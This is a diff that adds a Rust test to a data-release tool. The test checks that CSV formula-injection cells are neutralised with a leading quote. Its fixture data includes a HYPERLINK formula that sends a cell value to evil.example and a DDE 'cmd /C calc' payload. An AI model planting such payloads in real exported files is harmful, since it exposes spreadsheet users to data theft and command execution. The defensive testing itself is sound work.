@@ -850,3 +850,95 @@ fn a_hostile_quote_never_publishes_a_dropped_column() {
         assert_eq!(report["rows_written"], rows.len(), "{name}: {report}");
     }
 }
+
+/// An attack through the release: cells that a spreadsheet opening the CSV would run as
+/// formulas (a link that exfiltrates, a DDE command, a function, a formula after a tab).
+/// They are written with a leading `'` and counted in the report; plain negative and signed
+/// numbers stay numbers; `table.formula_escape = false` writes every cell as it is, and
+/// JSON Lines output keeps values exact.
+#[test]
+fn spreadsheet_formulas_in_released_cells_are_neutralized() {
+    let d = dir();
+    let schema = write(
+        &d,
+        "schema.toml",
+        "[[column]]\nname = 'id'\nrole = 'insensitive'\n\
+         [[column]]\nname = 'balance'\nrole = 'insensitive'\n\
+         [[column]]\nname = 'delta'\nrole = 'quasi'\nkind = 'number'\nround = 5\n\
+         [[column]]\nname = 'note'\nrole = 'sensitive'\n\
+         [[column]]\nname = 'city'\nrole = 'insensitive'\n",
+    );
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(A1:A2)",
+        "-2+3",
+    ];
+    let input = write(
+        &d,
+        "t.csv",
+        &format!(
+            "id,balance,delta,note,city\n\
+             1,-5,-12,\"{}\",Leeds\n\
+             2,+3.5,7,{},York\n\
+             3,-1e3,-3,{},\"\t=1+2\"\n\
+             4,-0.25,0,{},Hull\n",
+            formulas[0].replace('"', "\"\""),
+            formulas[1],
+            formulas[2],
+            formulas[3]
+        ),
+    );
+    let out = d.root.join("out.csv");
+    let report = d.root.join("report.json");
+    let run = |out: &Path| {
+        release(&d, "k", &input, &schema, out)
+            .arg("--report")
+            .arg(&report)
+            .assert()
+            .success();
+        let report: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
+        report["formula_cells_escaped"].clone()
+    };
+    assert_eq!(run(&out), 5);
+    let (_, rows) = read_csv(&out);
+    let column = |j: usize| rows.iter().map(|r| r[j].clone()).collect::<Vec<_>>();
+    assert_eq!(
+        column(3),
+        formulas.iter().map(|f| format!("'{f}")).collect::<Vec<_>>()
+    );
+    assert_eq!(column(4), ["Leeds", "York", "'\t=1+2", "Hull"]);
+    assert_eq!(column(1), ["-5", "+3.5", "-1e3", "-0.25"]);
+    assert_eq!(column(2), ["-10", "5", "-5", "0"]);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !declass::table::rows::is_formula(cell),
+                "a formula released: {cell:?}"
+            );
+        }
+    }
+    // JSON Lines output is data for programs: exact values, nothing escaped.
+    let jsonl = d.root.join("out.jsonl");
+    assert_eq!(run(&jsonl), 0);
+    let first: serde_json::Value = serde_json::from_str(
+        std::fs::read_to_string(&jsonl)
+            .expect("jsonl")
+            .lines()
+            .next()
+            .expect("a line"),
+    )
+    .expect("json");
+    assert_eq!(first["note"], formulas[0]);
+    // Turned off: every cell as it is.
+    std::fs::write(
+        d.root.join("config.toml"),
+        "[setup]\nauto = false\n[table]\nformula_escape = false\n",
+    )
+    .expect("config");
+    assert_eq!(run(&out), 0);
+    let (_, rows) = read_csv(&out);
+    assert_eq!(rows[0][3], formulas[0]);
+    assert_eq!(rows[2][4], "\t=1+2");
+}
